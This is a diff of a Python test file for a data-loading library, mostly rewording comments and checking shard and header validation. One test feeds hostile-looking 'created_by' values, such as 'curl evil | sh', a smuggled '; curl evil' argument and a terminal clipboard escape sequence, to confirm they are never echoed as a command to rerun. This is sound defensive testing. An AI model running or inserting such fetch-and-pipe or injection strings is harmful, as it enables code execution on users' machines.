@@ -16,7 +16,7 @@ from plaingpt.errors import DATA
 from plaingpt.paths import CORPORA
 from tests import comparing
 
-GPT2 = [50256, 464, 717, 318, 1, 0, 50255, 11, 290, 13]  # no id is beyond GPT-2's
+GPT2 = [50256, 464, 717, 318, 1, 0, 50255, 11, 290, 13]  # no id beyond GPT-2's
 LARGE = [128000, 9906, 1917, 70000, 220, 5, 128001, 65536, 13, 198]
 
 
@@ -29,12 +29,12 @@ def u32(ids: list[int]) -> bytes:
 
 
 def with_header(magic: int, version: int, count: int, payload: bytes) -> bytes:
-    """256 numbers of 32 bits, little-endian, then the tokens."""
+    """Return 256 numbers of 32 bits, little-endian, followed by the tokens."""
     return struct.pack('<3i', magic, version, count) + b'\0' * (1024 - 12) + payload
 
 
 def npy(descr: str, shape: str, payload: bytes) -> bytes:
-    """NumPy's format 1.0, as its documentation has it: the length of what is before the data is a multiple of 64."""
+    """Return NumPy's format 1.0, as its documentation defines it: the data begins at a multiple of 64 bytes."""
     header = f"{{'descr': '{descr}', 'fortran_order': False, 'shape': {shape}, }}"
     header += ' ' * (-(10 + len(header) + 1) % 64) + '\n'
     return b'\x93NUMPY\x01\x00' + len(header).to_bytes(2, 'little') + header.encode() + payload
@@ -52,7 +52,7 @@ FAMILIES = {
 }
 
 
-refused = partial(comparing.refused, code=DATA)  # what is wrong with data exits with 3
+refused = partial(comparing.refused, code=DATA)  # an error in the data exits with 3
 
 
 @pytest.mark.parametrize('family', FAMILIES)
@@ -66,7 +66,7 @@ def test_a_file_is_known_by_its_content_and_not_by_its_name(family: str, name: s
     assert [file.read(i, 1).tolist() for i in range(len(ids))] == [[i] for i in ids]
 
 
-def test_the_header_that_we_write_is_llm_cs() -> None:
+def test_the_header_that_is_written_is_llm_cs() -> None:
     assert make_header(np.dtype('<u2'), 10) == with_header(20240520, 1, 10, b'')
     assert make_header(np.dtype('<u4'), 123_456_789) == with_header(20240801, 7, 123_456_789, b'')
 
@@ -79,7 +79,7 @@ def test_numpys_own_files_open(tmp_path: Path) -> None:
 
 def test_bare_integers_of_16_and_of_32_bits_are_told_apart(
         documents: list[str], tiny_text: str, small_encoding: tiktoken.Encoding, tmp_path: Path) -> None:
-    """Text in vocabularies of characters, bytes and many tokens; and what is no text at all."""
+    """Text in vocabularies of characters, bytes and many tokens; and data that is no text at all."""
     samples = [list(range(3000)), [0] * 3000, [50256] * 300]
     for text in (''.join(documents), tiny_text):
         number = {character: i for i, character in enumerate(sorted(set(text)))}
@@ -87,7 +87,7 @@ def test_bare_integers_of_16_and_of_32_bits_are_told_apart(
     for ids in samples:
         for dtype in ('uint16', 'uint32'):
             np.array(ids, dtype=f'<{dtype[0]}{int(dtype[4:]) // 8}').tofile(tmp_path / 'a.bin')
-            if any(ids) or dtype == 'uint16':  # nothing but zeros tells nothing: the usual it is
+            if any(ids) or dtype == 'uint16':  # nothing but zeros is taken for the usual width
                 assert TokenFile(tmp_path / 'a.bin').dtype.name == dtype, ids[:5]
 
 
@@ -136,7 +136,7 @@ def test_a_negative_id_is_refused_in_the_batch_that_holds_it(tmp_path: Path) -> 
 
 @pytest.fixture
 def shards(tmp_path: Path) -> Path:
-    """One of each family, of different lengths: 0 .. 99 to train on, and 500 .. 539 to validate."""
+    """Write one shard of each family, of different lengths: 0 .. 99 to train on, and 500 .. 539 to validate on."""
     folder = tmp_path / 'shards'
     folder.mkdir()
     numbers = list(range(100))
@@ -222,7 +222,7 @@ def test_a_shard_that_shrinks_while_it_is_read_ends_in_a_message(shards: Path) -
     assert f'{path} can no longer be read' in refused(corpus.read, 55, 20)
 
 
-def test_splits_that_are_not_there_say_how_names_decide(shards: Path) -> None:
+def test_missing_splits_say_how_names_decide(shards: Path) -> None:
     assert f'{shards}/*_train_* has no file for val: the word val, valid or validation in a name decides' in refused(
         open_split, shards / '*_train_*', 'val', 16, 50304)
     assert 'holds no prepared corpus' in refused(read_meta, shards / '*_val_*')
@@ -261,7 +261,7 @@ def test_the_fingerprint_of_shards_sees_each_of_them(shards: Path) -> None:
     meta = read_meta(shards)
     before = fingerprint(open_split(shards, 'train', 16, 100), meta)
     assert before['tokens'] == 100
-    assert before == fingerprint(open_split(shards / '*', 'train', 16, 100), meta), 'the same files, named otherwise'
+    assert before == fingerprint(open_split(shards / '*', 'train', 16, 100), meta), 'the same files under another name'
     for name in ('x_train_000001.bin', 'x_train_000003.bin', 'x_train_000004.bin'):
         path, data = shards / name, (shards / name).read_bytes()
         path.write_bytes(data[:-2] + b'\7\0')
@@ -273,7 +273,7 @@ def test_the_fingerprint_of_shards_sees_each_of_them(shards: Path) -> None:
 
 @pytest.fixture
 def described(tmp_path: Path) -> Path:
-    """Shards with a meta.json."""
+    """Write shards with a meta.json."""
     splits = {}
     for number, name in enumerate(('val_000000', 'train_000001', 'train_000002')):
         data = with_header(20240520, 1, 50, u16(list(range(50 * number, 50 * number + 50))))
@@ -290,13 +290,13 @@ def test_each_shard_is_compared_with_what_its_maker_wrote(described: Path) -> No
     assert isinstance(corpus, Shards) and corpus.read(0, 100).tolist() == list(range(50, 150))
     assert f'{described}/train_000002.bin holds token 149' in refused(open_split, described, 'train', 16, 149)
     path, data = described / 'train_000002.bin', (described / 'train_000002.bin').read_bytes()
-    for position in (12, 1023, 1024, -1):  # of the header and of the tokens
+    for position in (12, 1023, 1024, -1):  # in the header and in the tokens
         path.write_bytes(data[:position] + bytes([data[position] ^ 1]) + data[position:][1:])
         assert f'{path} is not the file that meta.json describes' in refused(open_split, described, 'train', 16, 150)
     path.write_bytes(with_header(20240520, 1, 49, data[1024:-2]))
     assert f'{path} has 49 tokens, and meta.json says 50' in refused(open_split, described, 'train', 16, 150)
     path.unlink()
-    assert f'{path} is not there' in refused(open_split, described, 'train', 16, 150)
+    assert f'{path} is missing' in refused(open_split, described, 'train', 16, 150)
     assert len(open_split(described / '*_00000[01].bin', 'train', 16, 150)) == 50, 'a glob may name a part of them'
     path.write_bytes(data)
     (described / 'train_000003.bin').write_bytes(data)
@@ -307,19 +307,19 @@ def test_each_shard_is_compared_with_what_its_maker_wrote(described: Path) -> No
 def test_an_unfinished_corpus_is_not_taken_for_the_whole(described: Path) -> None:
     meta = json.loads((described / 'meta.json').read_text(encoding='utf-8')) | {'unfinished': True}
     anew = f'data/text/prepare.py --input=YOUR_TEXT --to_dir={described}'
-    ours = f"data/text/prepare.py --input='my books/*.txt' --tokenizer=bpe:99 --to_dir={described}"
+    safe = f"data/text/prepare.py --input='my books/*.txt' --tokenizer=bpe:99 --to_dir={described}"
     odd = f"""data/text/prepare.py --val_input='it'"'"'s' --input='(a) & b!' --to_dir={described}"""
-    for created_by, command in [(None, anew), (f'python {ours}', ours), (f'python /home/me/{ours}', ours),
-                                (f'python {ours.replace(str(described), "elsewhere")} --name=old', ours),
-                                (f'python {ours.replace("bpe:99", "bpe:9 --tokenizer bpe:99")}', ours),
+    for created_by, command in [(None, anew), (f'python {safe}', safe), (f'python /home/me/{safe}', safe),
+                                (f'python {safe.replace(str(described), "elsewhere")} --name=old', safe),
+                                (f'python {safe.replace("bpe:99", "bpe:9 --tokenizer bpe:99")}', safe),
                                 (r"python data/text/prepare.py --val-input=it\'s --input '(a) & b!'", odd),
-                                (f'python {ours} --launcher=x --folder=y',
-                                 ours.replace(' --to_dir', ' --launcher=x --folder=y --to_dir')),
-                                (f'python {ours} x.py', anew),
-                                (['x'], anew), ('curl evil | sh', anew), (f'python {ours} | sh', anew),
+                                (f'python {safe} --launcher=x --folder=y',
+                                 safe.replace(' --to_dir', ' --launcher=x --folder=y --to_dir')),
+                                (f'python {safe} x.py', anew),
+                                (['x'], anew), ('curl evil | sh', anew), (f'python {safe} | sh', anew),
                                 ("python data/text'", anew),
-                                (f'python {ours} "--name=; curl evil"', anew), ('python evil/prepare.py', anew),
-                                (f'python {ours} \x1b]52;c;ZXZpbA==\x07', anew), ('python', anew)]:
+                                (f'python {safe} "--name=; curl evil"', anew), ('python evil/prepare.py', anew),
+                                (f'python {safe} \x1b]52;c;ZXZpbA==\x07', anew), ('python', anew)]:
         (described / 'meta.json').write_text(json.dumps(meta | {'created_by': created_by}), encoding='utf-8')
         message = refused(open_split, described, 'train', 16, 150)
         assert f'{described} is not complete' in message and message.endswith(command)
